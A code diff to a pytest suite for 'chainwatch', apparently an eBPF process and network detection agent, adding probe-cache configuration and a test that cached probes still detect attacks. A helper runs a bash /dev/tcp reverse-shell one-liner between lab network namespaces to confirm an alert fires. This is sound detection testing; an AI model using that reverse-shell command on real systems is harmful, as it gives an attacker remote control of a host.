@@ -10,10 +10,19 @@ import sys
 import time
 from pathlib import Path
 
+import pytest
+
 from tests.helpers.live import require_root
 from tests.helpers.polling import wait_until
 
 CHAINWATCH = [sys.executable, "-m", "agent"]
+
+
+def cache_config(directory: Path) -> list[str]:
+    """``--config`` arguments keeping the compile cache in ``directory`` (tests never use /var/cache)."""
+    config = directory / "chainwatch.toml"
+    config.write_text(f'[sensor]\ncache_dir = "{directory / "cache"}"\n')
+    return ["--config", str(config)]
 
 
 def wait_for_line(path: Path, needle: str, timeout: float) -> bool:
@@ -24,7 +33,8 @@ def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
     """`chainwatch record` during 23 /bin/true execs, then `replay --dump` shows them with the shell as ppid."""
     recording, log = tmp_path / "x.cw", tmp_path / "record.log"
     with log.open("w") as err:
-        agent = subprocess.Popen([*CHAINWATCH, "record", str(recording)], stderr=err, stdout=subprocess.DEVNULL)
+        agent = subprocess.Popen([*CHAINWATCH, "record", str(recording), *cache_config(tmp_path)], stderr=err,
+                                 stdout=subprocess.DEVNULL)
     try:
         assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
         shell = int(subprocess.run(["bash", "-c", "echo $$; for i in $(seq 23); do /bin/true; done"],
@@ -67,33 +77,84 @@ def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
     shadow.mkdir()
     (shadow / "bcc.py").write_text("raise ImportError('bcc hidden by the test')\n")
     root = Path(__file__).resolve().parents[2]
-    proc = subprocess.run([*CHAINWATCH, "run"], capture_output=True, text=True, timeout=60,
+    # An empty cache: the program must be compiled, which is what needs bcc.
+    proc = subprocess.run([*CHAINWATCH, "run", *cache_config(tmp_path)], capture_output=True, text=True, timeout=60,
                           env={**os.environ, "PYTHONPATH": f"{shadow}:{root}"})
     assert proc.returncode != 0
     assert "python3-bpfcc" in proc.stderr
     assert "Traceback" not in proc.stderr
 
 
+def run_until_ready(log: Path, args: list[str]) -> subprocess.Popen[bytes]:
+    """`chainwatch run ARGS` with its log in ``log``, once it logged sensor_ready."""
+    with log.open("w") as err:
+        agent = subprocess.Popen([*CHAINWATCH, "run", *args], stderr=err, stdout=subprocess.DEVNULL)
+    if not wait_for_line(log, '"sensor_ready"', 60):
+        agent.kill()
+        agent.wait(timeout=30)
+        pytest.fail(log.read_text())
+    return agent
+
+
+def ready_line(log: Path) -> dict[str, object]:
+    line: dict[str, object] = next(entry for entry in map(json.loads, log.read_text().splitlines())
+                                   if entry["event"] == "sensor_ready")
+    return line
+
+
+def reverse_shell_alerts(netlab, alerts: Path, port: int) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
+    """A bash /dev/tcp reverse shell in the lab to ``port``; the alert lines that appear in ``alerts``."""
+    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
+    netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
+               timeout=15)
+    assert b"cw-42" in listener.wait(timeout=15)
+    wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
+    time.sleep(1)
+    return [json.loads(line) for line in alerts.read_text().splitlines()] if alerts.exists() else []
+
+
+def stop(agent: subprocess.Popen[bytes], log: Path) -> None:
+    agent.send_signal(signal.SIGTERM)
+    rc = agent.wait(timeout=30)
+    assert rc == 0, log.read_text()
+
+
 def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -> None:
     """`chainwatch run --alerts FILE` turns a bash /dev/tcp reverse shell in the lab into one incident in FILE."""
     alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
     port = netlab.port()
-    with log.open("w") as err:
-        agent = subprocess.Popen([*CHAINWATCH, "run", "--alerts", str(alerts)], stderr=err,
-                                 stdout=subprocess.DEVNULL)
+    agent = run_until_ready(log, ["--alerts", str(alerts), *cache_config(tmp_path)])
     try:
-        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
-        listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
-        netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
-                   timeout=15)
-        assert b"cw-42" in listener.wait(timeout=15)
-        wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
-        time.sleep(1)
+        lines = reverse_shell_alerts(netlab, alerts, port)
     finally:
-        agent.send_signal(signal.SIGTERM)
-        rc = agent.wait(timeout=30)
-    assert rc == 0, log.read_text()
-    lines = [json.loads(line) for line in alerts.read_text().splitlines()]
+        stop(agent, log)
+    assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
+    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
+    assert lines[-1]["rule"]["ruleset"] == "chainwatch"
+
+
+def test_second_run_loads_the_cached_probes_and_still_alerts(sensorlab, netlab, tmp_path) -> None:
+    """Two runs with one cache directory: the first compiles and caches (0700 directory, 0600 entry), the
+    second loads the same probes from the cache without compiling and catches the same reverse shell."""
+    config, port = cache_config(tmp_path), netlab.port()
+    first_log, second_log, alerts = tmp_path / "first.log", tmp_path / "second.log", tmp_path / "alerts.jsonl"
+    stop(run_until_ready(first_log, ["--alerts", str(tmp_path / "unused.jsonl"), *config]), first_log)
+    first = ready_line(first_log)
+    assert first["compile"] == "compiled" and "compile_s" in first, first
+    entries = os.listdir(tmp_path / "cache")
+    assert len(entries) == 1 and entries[0].endswith(".cwbpf"), entries
+    assert os.stat(tmp_path / "cache").st_mode & 0o777 == 0o700
+    assert os.stat(tmp_path / "cache" / entries[0]).st_mode & 0o777 == 0o600
+    agent = run_until_ready(second_log, ["--alerts", str(alerts), *config])
+    try:
+        second = ready_line(second_log)
+        assert second["compile"] == "cached" and "compile_s" not in second, second
+        assert second["probes"] == first["probes"]
+        # The agent sees the whole host: keep this lab's shell (other tests' labs use other ports).
+        lines = [a for a in reverse_shell_alerts(netlab, alerts, port)
+                 if (a.get("destination") or {}).get("port") == port]
+    finally:
+        stop(agent, second_log)
     assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
     assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
     assert lines[-1]["rule"]["ruleset"] == "chainwatch"
